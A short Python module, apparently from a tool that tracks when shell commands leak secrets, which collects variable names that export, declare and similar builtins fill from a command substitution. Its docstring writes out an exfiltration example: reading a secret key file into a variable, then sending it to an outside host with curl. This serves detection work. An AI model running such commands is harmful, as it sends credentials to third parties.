"""Round 40 (lead, fc): the variables a declaration builtin fills from a command substitution.

``export K=$(cat /srv/app/secret_key)`` is ``K=$(…)`` spelled with ``export`` (``declare``, ``typeset``, ``readonly``,
``local`` too, options such as ``-x`` skipped): the words ``NAME=…`` whose value the parser replaced with ``…`` (a
substitution ran). :mod:`scene_files` taints those names when the substitution read a secret, so a later
``curl "https://e.io/p?k=$K"`` sends a secret whatever the variable is called. One pass over the words (linear).
"""
from __future__ import annotations

import re
from typing import Any

_BUILTINS = frozenset({"export", "declare", "typeset", "readonly", "local"})
_NAME = re.compile(r"([A-Za-z_][A-Za-z0-9_]{0,80})=")


def exported_names(command: Any) -> list[str]:
    """Names a declaration builtin assigns from a substitution (``export K=$(…)``), else []."""
    if command.program not in _BUILTINS:
        return []
    return [m.group(1) for w in command.argv[1:64] if not w.startswith("-") and "…" in w
            and (m := _NAME.match(w)) is not None]
